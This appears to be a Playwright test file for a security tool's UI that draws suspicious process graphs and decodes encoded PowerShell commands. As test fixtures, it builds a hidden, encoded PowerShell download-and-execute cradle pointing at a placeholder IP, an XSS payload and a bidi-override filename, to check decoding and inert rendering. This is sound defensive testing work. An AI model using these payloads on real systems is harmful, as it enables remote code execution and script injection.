/**
 * The drawn community graph and decoded encoded commands, against the real standalone host:
 * the graph of a generated attack community counted against the API's community detail, the
 * "showing N of M" bound on a community larger than the graph draws, an encoded PowerShell
 * command shown decoded beside its raw form, search that finds a word only the decoded text
 * holds, and hostile text (the hostile-input corpus plus markup) in graph labels and decoded
 * text rendered as inert, visibly escaped text.
 */
import { expect, test, type Page } from '@playwright/test';
import { scoreToSeverity } from '../../common/severity';
import type { AnomalousCommunity, CommunityEdge } from '../../common/types/community';
import type { CommunityPage, StoredCommunity } from '../../server/ports';
import { hostileCorpus } from '../hostile/hostile_corpus';
import {
  callApi,
  openApp,
  rowIds,
  screenshot,
  startTestHost,
  trackPageErrors,
  waitForList,
  type TestHost,
} from './support';

let host: TestHost;

test.beforeAll(async () => {
  test.setTimeout(120_000);
  host = await startTestHost();
});
test.afterAll(async () => {
  await host?.close();
});

const utf16 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

async function community(id: string): Promise<StoredCommunity> {
  const res = await callApi<StoredCommunity>(host, 'GET', `/communities/${id}`);
  expect(res.status).toBe(200);
  return res.body;
}

async function list(q: Record<string, string> = {}): Promise<CommunityPage> {
  const params = new URLSearchParams({ per_page: '100', ...q });
  const res = await callApi<CommunityPage>(host, 'GET', `/communities?${params}`);
  expect(res.status).toBe(200);
  return res.body;
}

/** Writes a community as the detection job would (the store's own write path). */
async function seed(c: AnomalousCommunity): Promise<void> {
  const report = await host.standalone.stores.communities.writeCommunities([c], {
    runId: `seed-${c.id}`,
    detectedAt: new Date().toISOString(),
    replaced: [],
  });
  expect(report.failed).toEqual([]);
}

const SEEDED = new Set(['wide-community', 'encoded-community', 'hostile-graph']);

/** The most anomalous community the generator made (not one this spec seeded). */
async function generatedTop(): Promise<string> {
  const items = (await list({ sort: 'rank', direction: 'asc' })).items;
  return items.find((i) => !SEEDED.has(i.id))!.id;
}

/** A stored community made anew from an existing one: its detection part only. */
async function baseOf(id: string): Promise<AnomalousCommunity> {
  const { triage: _t, version: _v, detectedAt: _d, runId: _r, ...base } = await community(id);
  return base;
}

/** Lineage links as docs/scoring.md describes them: grandparent and great-grandparent. */
function expectedLineage(c: StoredCommunity): number {
  const parent = new Map<string, string>();
  for (const e of [...c.edges].sort((a, b) => a.timestamp.localeCompare(b.timestamp))) {
    if (!parent.has(e.childEntityId) && e.parentEntityId !== e.childEntityId)
      parent.set(e.childEntityId, e.parentEntityId);
  }
  let n = 0;
  for (const id of processesOf(c)) {
    const seen = new Set([id]);
    let up: string | undefined = id;
    for (let g = 1; g <= 3; g++) {
      up = up === undefined ? undefined : parent.get(up);
      if (up === undefined || seen.has(up)) break;
      seen.add(up);
      if (g >= 2) n++;
    }
  }
  return n;
}

function processesOf(c: Pick<AnomalousCommunity, 'entityIds' | 'edges'>): Set<string> {
  return new Set([...c.entityIds, ...c.edges.flatMap((e) => [e.parentEntityId, e.childEntityId])]);
}

async function openCommunity(page: Page, id: string) {
  const row = page.locator(`[data-test-subj="communityRow"][data-community-id="${id}"]`);
  await expect(row).toBeVisible();
  await row.getByTestId('communityOpenLink').click();
  const flyout = page.getByTestId('communityFlyout');
  // The chain tab opens on the tree, or on the (bounded) graph for a very large community.
  await expect(
    flyout.getByTestId('processTree').or(flyout.getByTestId('communityGraph')),
  ).toBeVisible();
  return flyout;
}

test('the graph view draws a generated attack community, counted against the API', async ({
  page,
}) => {
  const errors = trackPageErrors(page);
  await openApp(page, host.url);
  // The first generated community on the list with an attack chain (ATT&CK techniques and at
  // least two creations).
  let c: StoredCommunity | undefined;
  for (const id of await rowIds(page)) {
    if (SEEDED.has(id)) continue;
    const d = await community(id);
    if (d.edges.length >= 2 && d.techniques.length > 0) {
      c = d;
      break;
    }
  }
  expect(c, 'a generated attack community').toBeDefined();
  const attack = c!;
  const processes = processesOf(attack);
  expect(processes.size).toBeLessThanOrEqual(300);

  const flyout = await openCommunity(page, attack.id);
  const t0 = Date.now();
  await flyout.getByTestId('chainViewGraph').click();
  const graph = flyout.getByTestId('communityGraph');
  await expect(graph.getByTestId('communityGraphSvg')).toBeVisible();
  const drawMs = Date.now() - t0;

  // Every process once, every creation once, each coloured by its own anomaly.
  const nodes = graph.getByTestId('graphNode');
  await expect(nodes).toHaveCount(processes.size);
  expect(
    new Set(await nodes.evaluateAll((els) => els.map((e) => e.getAttribute('data-entity-id')))),
  ).toEqual(processes);
  const edges = graph.getByTestId('graphEdge');
  await expect(edges).toHaveCount(attack.edges.length);
  const drawn = await edges.evaluateAll((els) =>
    els.map((e) => [e.getAttribute('data-event-id'), e.getAttribute('data-severity')] as const),
  );
  expect(new Map(drawn)).toEqual(
    new Map(attack.edges.map((e) => [e.eventId, scoreToSeverity(e.anomaly)])),
  );
  // The driving edge is on the thick chain.
  await expect(
    graph.locator(
      `[data-test-subj="graphEdge"][data-event-id="${attack.drivingEdge.eventId}"][data-driving-chain="true"]`,
    ),
  ).toHaveCount(1);
  // Lineage links: dashed, one per (great-)grandparent, and they can be hidden.
  const lineage = graph.getByTestId('graphLineageLink');
  await expect(lineage).toHaveCount(expectedLineage(attack));
  if (expectedLineage(attack) > 0) {
    await expect(lineage.first()).toHaveAttribute('stroke-dasharray', /\d/);
    await expect(edges.first()).not.toHaveAttribute('stroke-dasharray', /./);
  }
  await expect(graph.getByTestId('graphClipNote')).toHaveCount(0);
  await screenshot(page, 'community-graph');
  await graph.getByTestId('graphLineageToggle').click();
  await expect(lineage).toHaveCount(0);

  // Selecting a node shows why its creation was scored, beside the graph.
  const target = attack.drivingEdge;
  await graph
    .locator(`[data-test-subj="graphNode"][data-entity-id="${target.childEntityId}"]`)
    .click();
  await expect(flyout.getByTestId('edgeDetails')).toHaveAttribute('data-event-id', target.eventId);
  // The generator's stagers run PowerShell with an encoded command: when this attack has one,
  // its payload is shown decoded (decoded here independently, with Node's own base64).
  const enc = /\s[-/\u2013\u2014\u2015]e[a-z]*\s+([A-Za-z0-9+/=]{8,})/i.exec(
    target.commandLine ?? '',
  );
  if (enc) {
    const script = Buffer.from(enc[1]!, 'base64').toString('utf16le');
    await expect(
      flyout.getByTestId('edgeDecodedCommand').getByTestId('decodedCommandText').first(),
    ).toContainText(script.slice(0, 60));
  }
  expect(drawMs).toBeLessThan(5_000);
  expect(errors).toEqual([]);
});

test('a community larger than the graph draws says "showing N of M" and stays responsive', async ({
  page,
}) => {
  const errors = trackPageErrors(page);
  const base = await baseOf(await generatedTop());
  const root = base.drivingEdge;
  // 1,200 extra children of the driving process: far more than the graph draws.
  const extra: CommunityEdge[] = Array.from({ length: 1_200 }, (_, i) => ({
    ...root,
    eventId: `wide-${i}`,
    eventIds: [`wide-${i}`],
    parentEntityId: root.childEntityId,
    parentName: root.childName,
    childEntityId: `wide-child-${i}`,
    childName: `child${i}.exe`,
    anomaly: (i % 100) / 200,
    score: (i % 100) / 200,
  }));
  const wide: AnomalousCommunity = {
    ...base,
    id: 'wide-community',
    maxAnomaly: 0.9995,
    edges: [...base.edges, ...extra],
    entityIds: [...base.entityIds, ...extra.map((e) => e.childEntityId)].sort(),
  };
  await seed(wide);
  const total = processesOf(wide).size;

  await openApp(page, host.url);
  const t0 = Date.now();
  const flyout = await openCommunity(page, wide.id);
  // Larger than the graph draws: the flyout opens on the bounded graph, not the full tree.
  const graph = flyout.getByTestId('communityGraph');
  await expect(graph.getByTestId('graphClipNote')).toContainText(
    `Showing 300 of ${total} processes`,
  );
  await expect(graph.getByTestId('graphNode')).toHaveCount(300);
  expect(Date.now() - t0).toBeLessThan(5_000);
  await screenshot(page, 'community-graph-clipped');
  // The chain that drove the score is always drawn.
  for (const id of [root.parentEntityId, root.childEntityId]) {
    await expect(graph.locator(`[data-test-subj="graphNode"][data-entity-id="${id}"]`)).toHaveCount(
      1,
    );
  }
  // Still interactive: selecting a drawn child explains its creation.
  const t1 = Date.now();
  await graph
    .locator('[data-test-subj="graphNode"][data-entity-id^="wide-child-"]')
    .first()
    .click();
  await expect(flyout.getByTestId('edgeDetails')).toHaveAttribute('data-event-id', /^wide-/);
  expect(Date.now() - t1).toBeLessThan(3_000);
  expect(errors).toEqual([]);
});

test('an encoded command is shown decoded beside its raw form, and search finds decoded words', async ({
  page,
}) => {
  const errors = trackPageErrors(page);
  // Seeded on a generated community, so the search word is certain to appear only in decoded
  // text (the generator's own stagers decode to download cradles whose words also appear raw).
  const marker = 'Zephyrquokka';
  const script = `$c=New-Object Net.WebClient;IEX $c.DownloadString('http://203.0.113.9/${marker}.ps1')`;
  const base = await baseOf(await generatedTop());
  const raw = `powershell.exe -NoP -NonI -W Hidden \u2013Enc ${utf16(script)}`;
  const edges = base.edges.map((e) =>
    e.eventId === base.drivingEdge.eventId
      ? { ...e, childName: 'powershell.exe', commandLine: raw }
      : e,
  );
  const encoded: AnomalousCommunity = {
    ...base,
    id: 'encoded-community',
    maxAnomaly: 0.9996,
    edges,
    drivingEdge: edges.find((e) => e.eventId === base.drivingEdge.eventId)!,
    events: base.events.map((s) =>
      s.event.event.id === base.drivingEdge.eventId
        ? { ...s, event: { ...s.event, process: { ...s.event.process, command_line: raw } } }
        : s,
    ),
  };
  await seed(encoded);
  // Nowhere in any raw command line: only decoding reveals it.
  const all = await list({ include_unflagged: 'true' });
  for (const item of all.items) {
    const d = await community(item.id);
    for (const e of d.events) {
      expect(`${e.event.process.command_line ?? ''}`.toLowerCase()).not.toContain(
        marker.toLowerCase(),
      );
    }
  }

  await openApp(page, host.url);
  const flyout = await openCommunity(page, encoded.id);
  const details = flyout.getByTestId('edgeDetails');
  await expect(details).toHaveAttribute('data-event-id', base.drivingEdge.eventId);
  await expect(details.getByTestId('edgeCommandLine')).toContainText(raw);
  const decoded = details.getByTestId('edgeDecodedCommand');
  await expect(decoded.getByTestId('decodedCommandFlag')).toHaveText('\u2013Enc payload');
  await expect(decoded.getByTestId('decodedCommandText')).toContainText(script);
  // Beside the raw form: the decoded panel follows the command line it decodes.
  const rawBox = await details.getByTestId('edgeCommandLine').boundingBox();
  const decBox = await decoded.boundingBox();
  expect(decBox!.y).toBeGreaterThanOrEqual(rawBox!.y + rawBox!.height - 1);
  expect(decBox!.y - (rawBox!.y + rawBox!.height)).toBeLessThan(40);
  await decoded.scrollIntoViewIfNeeded();
  await screenshot(page, 'decoded-command-edge');

  // The raw-event view: the stored document, and its command line decoded after it.
  await details.getByTestId('edgeRawEventToggle').click();
  await expect(details.getByTestId('rawEventJson').first()).toContainText('Enc');
  await expect(
    details.getByTestId('rawEventDecodedCommand').getByTestId('decodedCommandText'),
  ).toContainText(script);
  await page.getByTestId('communityFlyoutCloseButton').click();

  // Search: the word is only in the decoded text, yet the list finds the community.
  const res = waitForList(page, (p) => p.get('q') === marker.toLowerCase());
  await page.getByTestId('filterSearch').fill(marker.toLowerCase());
  await page.getByTestId('filterSearch').press('Enter');
  await res;
  await expect
    .poll(async () =>
      page
        .getByTestId('communityRow')
        .evaluateAll((rows) => rows.map((r) => r.getAttribute('data-community-id'))),
    )
    .toEqual([encoded.id]);
  expect((await list({ q: marker })).items.map((i) => i.id)).toEqual([encoded.id]);
  await screenshot(page, 'decoded-command-search');
  expect(errors).toEqual([]);
});

/** Strings of the hostile-input corpus that are hostile as text: controls, bidi, markup-ish. */
function corpusStrings(): string[] {
  const out = new Set<string>();
  const walk = (v: unknown): void => {
    if (typeof v === 'string') {
      if (v.length <= 300 && /[^\x20-\x7e]|[<>&"]/.test(v)) out.add(v);
    } else if (v && typeof v === 'object') for (const x of Object.values(v)) walk(x);
  };
  for (const r of hostileCorpus({ children: 4, megabyteRecords: 0, depth: 8 })) {
    if (r.expect.kind !== 'event' || r.bytes.length > 8192) continue;
    try {
      walk(JSON.parse(r.bytes.toString('utf8')));
    } catch {
      // Not JSON on purpose.
    }
  }
  return [...out];
}

const XSS = '<img src=x onerror=window.__xss=1><script>window.__xss=2</script>';

test('hostile graph labels and decoded text stay inert text, with hidden characters escaped', async ({
  page,
}) => {
  const errors = trackPageErrors(page);
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const hostile = [XSS, 'ws-\u202eexe.cod', ...corpusStrings()];
  expect(hostile.some((s) => s.includes('\u202e'))).toBe(true);
  expect(hostile.some((s) => s.includes('\u001b'))).toBe(true);

  const base = await baseOf(await generatedTop());
  const decodedScript = `Write-Host "${XSS}"; $x = 'evil\u202etxt.exe'; ${hostile.slice(2, 6).join(' ; ')}`;
  const raw = `powershell -enc ${utf16(decodedScript)}`;
  const edges = base.edges.map((e, i) => ({
    ...e,
    parentName: hostile[i % hostile.length]!,
    childName: hostile[(i + 1) % hostile.length]!,
    commandLine: raw,
  }));
  const evil: AnomalousCommunity = {
    ...base,
    id: 'hostile-graph',
    maxAnomaly: 0.9997,
    edges,
    drivingEdge: edges.find((e) => e.eventId === base.drivingEdge.eventId)!,
  };
  await seed(evil);

  await openApp(page, host.url);
  const flyout = await openCommunity(page, evil.id);
  await flyout.getByTestId('chainViewGraph').click();
  const graph = flyout.getByTestId('communityGraph');
  await expect(graph.getByTestId('graphNode')).toHaveCount(processesOf(evil).size);
  const labels = await graph.getByTestId('graphNodeLabel').allTextContents();
  // Markup is shown as text; the bidi override appears as a visible escape, never raw.
  expect(labels.some((l) => l.startsWith('<img src=x'))).toBe(true);
  expect(labels.some((l) => l.includes('\\u{202E}'))).toBe(true);
  for (const l of labels) {
    // eslint-disable-next-line no-control-regex
    expect(l).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  }
  await screenshot(page, 'community-graph-hostile');

  const decoded = flyout.getByTestId('edgeDecodedCommand').getByTestId('decodedCommandText');
  await expect(decoded).toContainText(`Write-Host "${XSS}"`);
  await expect(decoded).toContainText("'evil\\u{202E}txt.exe'");
  // The details title escapes the bidi override too, so it cannot reverse the text after it.
  await expect(flyout.getByTestId('edgeDetailsTitle')).toContainText('\\u{202E}');
  await expect(flyout.getByTestId('edgeDetailsTitle')).not.toContainText('\u202e');
  // eslint-disable-next-line no-control-regex
  expect(await decoded.innerText()).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202a-\u202e]/);

  expect(dialogs).toEqual([]);
  expect(
    await page.evaluate(() => (window as unknown as { __xss?: number }).__xss),
  ).toBeUndefined();
  await expect(page.locator('img[src="x"]')).toHaveCount(0);
  await expect(page.locator('script', { hasText: '__xss' })).toHaveCount(0);
  expect(errors).toEqual([]);
});
